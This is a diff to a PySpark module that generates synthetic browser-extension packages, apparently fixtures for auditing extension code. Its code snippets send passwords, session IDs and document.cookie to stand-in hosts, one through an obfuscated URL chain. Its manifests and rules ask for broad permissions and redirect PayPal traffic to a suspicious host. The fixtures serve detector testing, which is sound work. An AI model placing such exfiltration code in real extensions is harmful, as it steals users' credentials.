@@ -1,8 +1,9 @@
 r"""A package corpus derived from the ``documents`` table.
 
 The driver tables hold no extension code, so each document becomes one script: a code
-sample of ours in front of its whole text. Twenty documents make a package; its manifest
-and extra files come from a few templates. Rows, packages and text grow with the table.
+sample of ours in front of its whole text. Twenty documents make a package. Its manifest
+and extra files are templates filled from the tables: the host of the page and the name of the
+customer of the same number. Rows, packages and text grow with the tables.
 """
 
 from __future__ import annotations
@@ -10,15 +11,14 @@ from __future__ import annotations
 import json
 from functools import cached_property
 
-from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import Column, DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from ..functions.text import string_array
+from ..functions.urls import host_of
 from .audit import Audit
 
 FILES_PER_PACKAGE = 20
-# The corpus has no script of 2 MiB, so its audit routes files over this many characters.
-LARGE_FILE = 12_000
 
 PATHS = [
     "background.js", "content/main.js", "popup/popup.js", "options/options.js", "src/util.js",
@@ -92,6 +92,11 @@ SNIPPETS = [
     'const { user, pass } = document.forms;\nconst payload = { a: pass };\nconst out = JSON.stringify(payload);\nnavigator.sendBeacon("https://form.example.org/f", out);\n',
     # variable chain
     'let a1 = sessionStorage.getItem("sid");\nlet b1 = a1;\nlet c1 = b1 + "x";\nlet d1 = c1;\naxios.post("https://chain.example.net/z", d1);\n',
+    # long constant chain, a call over several lines and a cut that is none
+    'const k1 = "https://deep";\nconst k2 = k1 + ".const";\nconst k3 = k2 + "-chain";\nconst k4 = k3 + ".example";\nconst k5 = k4 + ".org";\nconst k6 = k5 + "/v";\nconst k7 = k6 + "1";\n'
+    'fetch(\n  k7,\n  { method: "POST", body: document.cookie });\nfetch("https://cut.example.top/x;y=" + document.cookie); let after = tab.urls;\nsend(tab.url);\n',
+    # minified by escapes, sends without a readable address
+    'const z = "' + "\\x41" * 101 + '";\nfetch(w);\nconst home = "https://quiet.example.info/p";\n',
     # plain helpers
     'function add(a, b) { return a + b; }\nexport const version = "1.0.0";\nconst el = document.getElementById("app");\nel.textContent = version;\n',
     # short assignments
@@ -106,26 +111,26 @@ SNIPPETS = [
 
 _EXPOSED = [{"resources": ["scripts/overlay.js", "img/a.png"], "matches": ["<all_urls>"]}]
 MANIFESTS = [
-    {"manifest_version": 3, "name": "Tab Shop Helper", "version": "1.2", "author": "Example Labs",
-     "permissions": ["cookies", "scripting", "storage", "tabs"], "host_permissions": ["<all_urls>", "https://*.paypal.com/*"],
+    {"manifest_version": 3, "name": "@NAME@ Helper", "version": "1.2", "author": "Example Labs",
+     "permissions": ["cookies", "scripting", "storage", "tabs"], "host_permissions": ["<all_urls>", "https://*.paypal.com/*", "https://@HOST@/*"],
      "background": {"service_worker": "background.js"}, "action": {"default_popup": "popup/popup.html"},
      "content_scripts": [{"matches": ["<all_urls>"], "js": ["content/main.js"], "run_at": "document_start"}],
      "web_accessible_resources": _EXPOSED},
     {"manifest_version": 2, "name": "__MSG_appName__", "version": "0.9", "default_locale": "es",
-     "permissions": ["tabs", "history", "webRequest", "webRequestBlocking", "*://*/*"], "background": {"scripts": ["background.js", "src/util.js"]},
+     "permissions": ["tabs", "history", "webRequest", "webRequestBlocking", "*://*/*", "*://*.@HOST@/*"], "background": {"scripts": ["background.js", "src/util.js"]},
      "browser_action": {"default_popup": "/popup/popup.html"}, "options_page": "options/options.html"},
     {"manifest_version": 3, "name": "Quiet Reader", "version": "2", "author": {"name": "Quiet Works"},
      "permissions": ["declarativeNetRequest", "proxy", "alarms"], "optional_permissions": ["downloads", "management"],
-     "host_permissions": ["https://mail.google.com/*"], "background": {"service_worker": "background.js"},
+     "host_permissions": ["https://mail.google.com/*", "https://@HOST@/*"], "background": {"service_worker": "background.js"},
      "content_scripts": [{"matches": ["*://*/*"], "js": ["content/main.js", "scripts/overlay.js"], "css": ["style.css"]}],
      "declarative_net_request": {"rule_resources": [{"path": "rules/main.json"}, {"path": "rules/broken.json"}]}},
-    {"manifest_version": 3, "name": "__MSG_missing_key__", "version": "1", "permissions": ["clipboardRead", "desktopCapture", "debugger"],
-     "side_panel": {"default_path": "side/panel.html"}, "externally_connectable": {"matches": ["*://*.example.com/*"]},
+    {"manifest_version": "3", "name": "__MSG_missing_key__", "version": "1", "permissions": ["clipboardRead", "desktopCapture", "debugger"],
+     "side_panel": {"default_path": "side/panel.html"}, "externally_connectable": {"matches": ["*://*.example.com/*", "https://@HOST@/*"]},
      "chrome_url_overrides": {"newtab": "pages/newtab.html"}},
     {"manifest_version": 2, "name": "Metrics", "version": "4.1", "permissions": ["downloads", "bookmarks", "nativeMessaging", "https://shopmetrics.io/*"],
      "content_scripts": [{"matches": ["https://www.facebook.com/*", "https://bank.example.com/*"], "js": ["content/main.js"]}],
      "sandbox": {"pages": ["sandbox/frame.html"]}, "web_accessible_resources": ["img/a.png"]},
-    {"manifest_version": 3, "name": "Plain Notes", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "popup/popup.html"}},
+    {"manifest_version": 3, "name": "广告 助手", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "popup/popup.html"}},
     {"manifest_version": 3, "name": "Guard", "version": "7", "permissions": ["management", "webNavigation", "sessions", "unknownThing"],
      "devtools_page": "devtools/panel.html", "options_ui": {"page": "options/options.html"},
      "externally_connectable": {"ids": ["*"]}, "background": {"service_worker": "background.js"}},
@@ -137,7 +142,7 @@ _RULES = json.dumps([
     {"id": 1, "action": {"type": "redirect", "redirect": {"url": "https://mirror.sneaky-data.top/p"}},
      "condition": {"urlFilter": "||paypal.com", "resourceTypes": ["main_frame"]}},
     {"id": 2, "action": {"type": "modifyHeaders"}, "condition": {"urlFilter": "*://*/*", "resourceTypes": ["xmlhttprequest", "image"]}},
-    {"id": 3, "action": {"type": "block"}, "condition": {"urlFilter": "||ads.example.com^"}},
+    {"id": 3, "action": {"type": "block"}, "condition": {"urlFilter": "||@HOST@^"}},
     {"id": 4, "action": {"type": "redirect", "redirect": {"extensionPath": "/img/a.png"}}, "condition": {"regexFilter": "tracker"}},
     {"id": 5, "action": {"type": "redirect", "redirect": {"url": "https://fonts.gstatic.com/x"}}, "condition": {"urlFilter": "fonts.example.net/x"}},
 ], indent=1)
@@ -146,8 +151,8 @@ EXTRA_FILES = [
     (-1, "popup/popup.html", _PAGE.format(a="popup.js", b="../src/util.js?v=3")),
     (0, "img/a.png", ""),
     (0, "vendor/payload.zip", ""),
-    (1, "options/options.html", _PAGE.format(a="options.js", b="https://cdn.example.net/lib.js")),
-    (1, "_locales/en/messages.json", json.dumps({"appName": {"message": "History Mate"}, "other": {"message": "x"}})),
+    (1, "options/options.html", _PAGE.format(a="options.js", b="https://@HOST@/lib.js")),
+    (1, "_locales/en/messages.json", json.dumps({"appName": {"message": "@NAME@ Mate"}, "other": {"message": "x"}})),
     (1, "_locales/es/messages.json", json.dumps({"appName": {"message": "Amigo"}})),
     (2, "rules/main.json", _RULES),
     (2, "rules/broken.json", "[{not json"),
@@ -174,8 +179,6 @@ def spread(rows: DataFrame, *key: str) -> DataFrame:
 class Corpus(Audit):
     """Audit of the derived corpus."""
 
-    large_file = LARGE_FILE
-
     def __init__(self, spark: SparkSession, folder: str):
         self.spark, self.folder = spark, folder
 
@@ -195,15 +198,23 @@ class Corpus(Audit):
 
     @cached_property
     def packages(self) -> DataFrame:
-        """(ext_id, ext_no): one row per package."""
+        """(ext_id, ext_no, host, name): one row per package with the values that fill its templates."""
         number = F.expr(f"doc_id div {FILES_PER_PACKAGE}")
-        return self.table("documents").select(number.alias("ext_no")).distinct().select(
-            F.concat(F.lit("ext-"), F.col("ext_no").cast("string")).alias("ext_id"), "ext_no")
+        numbers = self.table("documents").select(number.alias("ext_no")).distinct()
+        hosts = self.table("pages").select(F.col("page_id").alias("ext_no"), host_of(F.col("url")).alias("host"))
+        names = self.table("customer").select(F.col("c_custkey").alias("ext_no"), F.col("c_name").alias("name"))
+        return numbers.join(hosts, "ext_no", "left").join(names, "ext_no", "left").select(
+            F.concat(F.lit("ext-"), F.col("ext_no").cast("string")).alias("ext_id"), "ext_no",
+            F.coalesce("host", F.lit("none.example.com")).alias("host"), F.coalesce("name", F.lit("Nobody")).alias("name"))
+
+    @staticmethod
+    def _filled(template: Column) -> Column:
+        return F.replace(F.replace(template, F.lit("@HOST@"), F.col("host")), F.lit("@NAME@"), F.col("name"))
 
     @cached_property
     def manifest_texts(self) -> DataFrame:
         template = (F.col("ext_no") % len(MANIFEST_TEXTS)).cast("int")
-        return self.packages.select("ext_id", F.get(string_array(MANIFEST_TEXTS), template).alias("text"))
+        return self.packages.select("ext_id", self._filled(F.get(string_array(MANIFEST_TEXTS), template)).alias("text"))
 
     @cached_property
     def extra_files(self) -> DataFrame:
@@ -211,5 +222,5 @@ class Corpus(Audit):
         extras = F.array(*[F.struct(F.lit(t).alias("t"), F.lit(p).alias("path"), F.lit(x).alias("text"))
                            for t, p, x in EXTRA_FILES])
         template = F.col("ext_no") % len(MANIFEST_TEXTS)
-        return self.packages.select("ext_id", template.alias("template"), F.explode(extras).alias("e")).filter(
-            (F.col("e.t") == -1) | (F.col("e.t") == F.col("template"))).select("ext_id", "e.path", "e.text")
+        return self.packages.select("ext_id", "host", "name", template.alias("template"), F.explode(extras).alias("e")).filter(
+            (F.col("e.t") == -1) | (F.col("e.t") == F.col("template"))).select("ext_id", "e.path", self._filled(F.col("e.text")).alias("text"))
